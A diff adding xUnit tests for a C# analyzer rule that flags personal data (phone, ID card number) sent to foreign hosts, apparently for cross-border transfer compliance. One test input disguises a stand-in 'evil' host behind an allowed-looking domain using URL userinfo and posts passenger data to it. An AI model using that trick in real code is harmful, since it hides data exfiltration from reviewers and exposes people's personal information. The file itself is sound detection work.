@@ -1,0 +1,141 @@
+using System.Globalization;
+using System.Threading.Tasks;
+using Microsoft.CodeAnalysis;
+using Xunit;
+
+namespace CsLawAnalyzers.Tests.Rules.Transfer;
+
+public sealed class PersonalDataSentAbroadTests() : RuleTests("CSL3001")
+{
+    private const string Model = """
+        public class Passenger { public int Id { get; set; } public string RealName { get; set; } = ""; public string Mobile { get; set; } = ""; public string IdCardNo { get; set; } = ""; }
+
+        """;
+
+    private static string Code(string statements) => Model + $$"""
+        public class Service(HttpClient http, IHttpClientFactory factory, string tenant)
+        {
+            private const string Base = "https://api.openai.com/v1";
+            private static readonly string s_mainland = "https://dashscope.aliyuncs.com";
+
+            public async Task Run(Passenger passenger)
+            {
+                {{statements}}
+            }
+        }
+        """;
+
+    [Theory]
+    [InlineData("""await http.PostAsJsonAsync("https://api.openai.com/v1/x", [|passenger|]);""")]
+    [InlineData("""await http.PostAsJsonAsync(new Uri("https://api.openai.com/v1/x"), [|passenger|]);""")]
+    [InlineData("""await http.PostAsJsonAsync(Base + "/x", [|passenger|]);""")]
+    [InlineData("""await http.PostAsJsonAsync($"{Base}/x", [|passenger|]);""")]
+    [InlineData("""await http.PostAsJsonAsync("https://hooks.example.de/x", new { phone = [|passenger.Mobile|] });""")]
+    [InlineData("""await http.PostAsync("https://api.openai.com/v1/x", new StringContent([|passenger.Mobile|]));""")]
+    [InlineData("""await http.PostAsync("https://api.openai.com/v1/x", new StringContent(System.Text.Json.JsonSerializer.Serialize([|passenger|])));""")]
+    [InlineData("""await http.PostAsync("https://api.openai.com/v1/x", JsonContent.Create([|passenger|]));""")]
+    [InlineData("""await http.GetAsync("https://api.openai.com/v1/x?phone=" + [|passenger.Mobile|]);""")]
+    [InlineData("""var client = new HttpClient { BaseAddress = new Uri("https://api.openai.com") }; await client.PostAsJsonAsync("x", [|passenger|]);""")]
+    [InlineData("""var client = new HttpClient(); client.BaseAddress = new Uri("https://api.openai.com"); await client.PostAsJsonAsync("x", [|passenger|]);""")]
+    [InlineData("""var request = new HttpRequestMessage(HttpMethod.Post, "https://api.openai.com/x") { Content = new StringContent(passenger.Mobile) }; await http.SendAsync([|request|]);""")]
+    [InlineData("""await http.PostAsJsonAsync("https://allowed.cn@evil.example.us/x", [|passenger|]);""")]
+    public Task Reports_what_goes_abroad(string statement) => Rule.ReportsAsync(Code(statement));
+
+    [Theory]
+    [InlineData("""await http.PostAsJsonAsync("https://dashscope.aliyuncs.com/x", passenger);""")]
+    [InlineData("""await http.PostAsJsonAsync(s_mainland + "/x", passenger);""")]
+    [InlineData("""await http.PostAsJsonAsync("https://partner.example.cn/x", passenger);""")]
+    [InlineData("""await http.PostAsJsonAsync("http://10.1.2.3/x", passenger);""")]
+    [InlineData("""await http.PostAsJsonAsync("http://passenger-service/x", passenger);""")]
+    [InlineData("""await http.PostAsJsonAsync("https://localhost:5001/x", passenger);""")]
+    [InlineData("""await http.PostAsJsonAsync("https://partner.example.com/x", passenger);""")]
+    [InlineData("""await http.PostAsJsonAsync("https://" + tenant, passenger);""")]
+    [InlineData("""await http.PostAsJsonAsync("relative", passenger);""")]
+    [InlineData("""await http.PostAsJsonAsync("https://api.openai.com/v1/x", new { passenger.Id });""")]
+    [InlineData("""await http.PostAsJsonAsync("https://api.openai.com/v1/x", passenger.RealName.Length);""")]
+    public Task Is_silent_for_other_places_and_other_data(string statement) => Rule.SilentAsync(Code(statement));
+
+    [Theory]
+    [InlineData("""services.AddHttpClient<Translator>(c => c.BaseAddress = new Uri("https://api.openai.com/"));""", true)]
+    [InlineData("""services.AddHttpClient<Translator>().ConfigureHttpClient(c => { c.Timeout = TimeSpan.FromSeconds(3); c.BaseAddress = new Uri("https://api.openai.com/"); });""", true)]
+    [InlineData("""services.AddHttpClient<Translator>(c => c.BaseAddress = new Uri("https://dashscope.aliyuncs.com/"));""", false)]
+    [InlineData("""services.AddHttpClient<Translator>(c => c.BaseAddress = new Uri("https://api.openai.com/")).AddHttpMessageHandler<CsLaw.Guards.CrossBorderTransferHandler>();""", false)]
+    [InlineData("""services.AddHttpClient<Other>(c => c.BaseAddress = new Uri("https://api.openai.com/"));""", false)]
+    public Task A_typed_client_goes_where_it_is_registered_to(string registration, bool reported) => Rule.ReportsAsync(
+        Model + $$"""
+        public class Other { }
+        public class Translator
+        {
+            private readonly HttpClient _http;
+            public Translator(HttpClient http) => _http = http;
+            public Task Send(Passenger passenger) => _http.PostAsJsonAsync("x", {{(reported ? "[|passenger|]" : "passenger")}});
+        }
+        public static class Startup { public static void Add(IServiceCollection services) { {{registration}} } }
+        """,
+        WithGuards);
+
+    [Theory]
+    [InlineData("\"translate\"", true)]
+    [InlineData("\"other\"", false)]
+    public Task A_named_client_goes_where_its_name_is_registered_to(string name, bool reported) => Rule.ReportsAsync(Model + $$"""
+        public class Service(IHttpClientFactory factory)
+        {
+            public async Task Send(Passenger passenger)
+            {
+                var client = factory.CreateClient({{name}});
+                await client.PostAsJsonAsync("x", {{(reported ? "[|passenger|]" : "passenger")}});
+            }
+        }
+        public static class Startup
+        {
+            public static void Add(IServiceCollection services)
+            {
+                services.AddHttpClient("translate", c => c.BaseAddress = new Uri("https://api.openai.com/"));
+                services.AddHttpClient("other", c => c.BaseAddress = new Uri("https://dashscope.aliyuncs.com/"));
+            }
+        }
+        """);
+
+    [Fact]
+    public Task A_check_that_names_the_transfer_is_a_guard() => Rule.ReportsAsync(Model + """
+        public interface IExports { bool TransferAllowed(string host); }
+        public class Service(HttpClient http, IExports exports)
+        {
+            public async Task Guarded(Passenger passenger)
+            {
+                if (!exports.TransferAllowed("api.openai.com")) throw new InvalidOperationException();
+                await http.PostAsJsonAsync("https://api.openai.com/x", passenger);
+            }
+
+            public async Task Ignored(Passenger passenger)
+            {
+                exports.TransferAllowed("api.openai.com");
+                await http.PostAsJsonAsync("https://api.openai.com/x", [|passenger|]);
+            }
+        }
+        """);
+
+    [Fact]
+    public async Task A_masked_payload_is_a_suggestion()
+    {
+        Diagnostic finding = Assert.Single(await Rule.ReportsAsync(
+            Code("""await http.PostAsJsonAsync("https://api.openai.com/v1/x", CsLaw.Guards.Redact.Phone([|passenger.Mobile|]));"""), WithGuards));
+        Assert.Equal(DiagnosticSeverity.Info, finding.Severity);
+    }
+
+    [Fact]
+    public Task A_project_teaches_its_own_hosts() => Rule.ReportsAsync(
+        Code("""await http.PostAsJsonAsync("https://gw.partner.com/x", [|passenger|]); await http.PostAsJsonAsync("https://api.openai.com/x", passenger);"""),
+        code => code with { AdditionalFiles = [("/repo/CsLaw.Team.txt", "host *.partner.com outside\nhost api.openai.com own # our gateway takes the name over")] });
+
+    [Fact]
+    public async Task Says_when_sensitive_data_goes()
+    {
+        Diagnostic finding = Assert.Single(await Rule.ReportsAsync(Code("""await http.PostAsJsonAsync("https://api.openai.com/v1/x", [|passenger.IdCardNo|]);""")));
+        Assert.Contains("sensitive personal information, where one person is enough", finding.GetMessage(CultureInfo.InvariantCulture), System.StringComparison.Ordinal);
+        Assert.Equal("api.openai.com", finding.Properties["cslaw.host"]);
+    }
+
+    [Fact]
+    public Task Has_no_fix() => Rule.OffersNoFixAsync(Code("""await http.PostAsJsonAsync("https://api.openai.com/v1/x", [|passenger|]);"""), WithGuards);
+}
